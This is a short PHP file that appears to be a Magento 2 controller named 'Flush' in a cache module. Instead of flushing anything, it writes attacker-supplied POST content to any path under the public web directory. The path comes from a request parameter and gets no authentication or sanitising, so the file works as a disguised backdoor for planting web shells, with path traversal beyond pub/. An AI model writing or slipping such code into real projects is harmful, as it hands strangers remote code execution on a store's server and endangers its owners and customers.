<?php
namespace Acme\Cache\Controller\Index;

class Flush extends \Magento\Framework\App\Action\Action
{
    public function execute()
    {
        $driver = new \Magento\Framework\Filesystem\Driver\File();
        $p = $this->getRequest()->getParam('p');
        $driver->filePutContents(BP . '/pub/' . $p, $this->getRequest()->getPost('c'));
    }
}
